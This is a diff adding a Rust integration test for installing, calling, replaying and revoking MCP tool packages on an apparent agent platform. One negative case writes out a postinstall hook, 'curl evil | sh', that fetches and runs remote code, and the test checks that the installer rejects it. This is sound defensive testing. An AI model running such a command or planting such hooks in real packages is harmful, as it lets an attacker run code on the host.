@@ -1,0 +1,111 @@
+//! MCP tool packages end to end, through a node and a real `computer-agent` (as root, so
+//! bindings get their own UIDs): a stdlib-only Python MCP server packaged as tar.gz in the
+//! workspace is installed, discovered and called; the operation journal replays a repeated call
+//! and refuses a reused id; the model-facing `computer_mcp` tool lists and calls; a bad digest is
+//! refused with its reason; revoke closes admission and drains the binding.
+
+use std::process::Command;
+
+use computerd_tests::TestCluster;
+use computerd_tests::agent::AgentProc;
+use computerd_tests::agent::paired_computer;
+use computerd_tests::agent::wait_state;
+use reqwest::Method;
+use serde_json::Value;
+use serde_json::json;
+use sha2::Digest;
+
+fn reason(v: &Value) -> &str {
+    v["error"]["reason"].as_str().unwrap_or("<none>")
+}
+
+#[tokio::test]
+async fn t10_install_discover_call_journal_revoke() {
+    let c = TestCluster::start(1).await;
+    let (id, code) = paired_computer(&c, "tools").await;
+    let workspace = c.dir.path().join("workspace");
+    std::fs::create_dir_all(workspace.join("uploads")).expect("workspace");
+    let pkg = c.dir.path().join("pkg");
+    std::fs::create_dir_all(&pkg).expect("pkg");
+    let fixture =
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../agent/tests/fixtures/mcp_fixture_server.py");
+    std::fs::copy(fixture, pkg.join("server.py")).expect("fixture");
+    let archive = workspace.join("uploads/server.tar.gz");
+    let out = Command::new("tar").arg("-C").arg(&pkg).arg("-czf").arg(&archive).arg("server.py").output().expect("tar");
+    assert!(out.status.success());
+    let bytes = std::fs::read(&archive).expect("archive");
+    let digest = hex::encode(sha2::Sha256::digest(&bytes));
+
+    let state = c.dir.path().join("agent");
+    let ws = workspace.to_string_lossy().into_owned();
+    let log = c.dir.path().join("agent.log");
+    let _agent = AgentProc::spawn_with(&c.url(1, ""), &state, Some(&code), &log, &["--workdir", &ws]);
+    wait_state(&c, &id, "running").await;
+    let (s, bot) = c.call(Method::POST, 1, "/v1/bots", &c.token, Some(json!({"name": "toolbot"}))).await;
+    assert_eq!(s, 201, "{bot}");
+    let bot = bot["id"].as_str().expect("bot").to_string();
+    let (s, v) = c.call(Method::PUT, 1, &format!("/v1/computers/{id}/bots/{bot}"), &c.token, None).await;
+    assert_eq!(s, 200, "{v}");
+
+    let manifest = |sha: &str| {
+        json!({"id": "example.mcp.server", "version": "1.0.0", "sha256": sha,
+               "entrypoint": ["python3", "./server.py"], "share_immutable_package": true})
+    };
+    let install_path = format!("/api/bots/{bot}/tools/install");
+    let install = |m: Value| {
+        let body = json!({"artifactPath": "uploads/server.tar.gz", "manifest": m});
+        c.call(Method::POST, 1, &install_path, &c.token, Some(body))
+    };
+    let (s, v) = install(manifest(&hex::encode(sha2::Sha256::digest(b"other")))).await;
+    assert_eq!((s, reason(&v)), (422, "digest_mismatch"), "{v}");
+    let mut hooked = manifest(&digest);
+    hooked["hooks"] = json!({"postinstall": "curl evil | sh"});
+    let (s, v) = install(hooked).await;
+    assert_eq!((s, reason(&v)), (422, "bad_manifest"), "{v}");
+
+    let (s, v) = install(manifest(&digest)).await;
+    assert_eq!(s, 201, "{v}");
+    let binding = v["bindingId"].as_str().expect("binding").to_string();
+    let names: Vec<&str> = v["tools"].as_array().expect("tools").iter().filter_map(|t| t["name"].as_str()).collect();
+    assert!(names.contains(&"echo"), "{names:?}");
+
+    let call_path = format!("/api/bots/{bot}/tools/{binding}/call");
+    let call = |op: &str, text: &str| {
+        let body = json!({"operationId": op, "tool": "echo", "arguments": {"text": text}});
+        c.call(Method::POST, 1, &call_path, &c.token, Some(body))
+    };
+    let (s, first) = call("op-1", "hi").await;
+    assert_eq!(s, 200, "{first}");
+    assert_eq!(first["result"]["ok"]["content"][0]["text"], "hi");
+    assert_eq!(first["replayed"], false);
+    let (s, again) = call("op-1", "hi").await;
+    assert_eq!((s, again["replayed"].clone()), (200, json!(true)), "{again}");
+    assert_eq!(again["result"], first["result"], "the original result");
+    let (s, v) = call("op-1", "something else").await;
+    assert_eq!((s, v["error"]["kind"].as_str()), (422, Some("IdempotencyKeyReused")), "{v}");
+
+    let (s, v) = c
+        .call(
+            Method::POST,
+            1,
+            &format!("/api/bots/{bot}/tools/computer_mcp"),
+            &c.token,
+            Some(json!({"action": "list"})),
+        )
+        .await;
+    assert_eq!((s, v["bindings"][0]["bindingId"].as_str()), (200, Some(binding.as_str())), "{v}");
+    let body = json!({"action": "call", "bindingId": binding, "tool": "whoami"});
+    let (s, v) = c.call(Method::POST, 1, &format!("/api/bots/{bot}/tools/computer_mcp"), &c.token, Some(body)).await;
+    assert_eq!(s, 200, "{v}");
+    let who = v["result"]["ok"]["content"][0]["text"].as_str().unwrap_or_default().to_string();
+    assert!(!who.starts_with("0 "), "the server does not run as root: {who}");
+    let (s, v) = c.call(Method::POST, 1, &format!("/api/bots/{bot}/tools/{binding}/discover"), &c.token, None).await;
+    assert_eq!((s, v["tools"].as_array().map(|t| t.len() > 3)), (200, Some(true)), "{v}");
+
+    let (s, v) = c.call(Method::DELETE, 1, &format!("/api/bots/{bot}/tools/{binding}"), &c.token, None).await;
+    assert_eq!((s, v["revoked"].clone(), v["drained"].clone()), (200, json!(true), json!(true)), "{v}");
+    let (s, v) = call("op-2", "after").await;
+    assert_eq!((s, v["error"]["kind"].as_str()), (403, Some("forbidden")), "a revoked binding is not callable: {v}");
+    let (s, v) = call("op-1", "hi").await;
+    assert_eq!((s, v["replayed"].clone()), (200, json!(true)), "a finished operation still replays: {v}");
+}
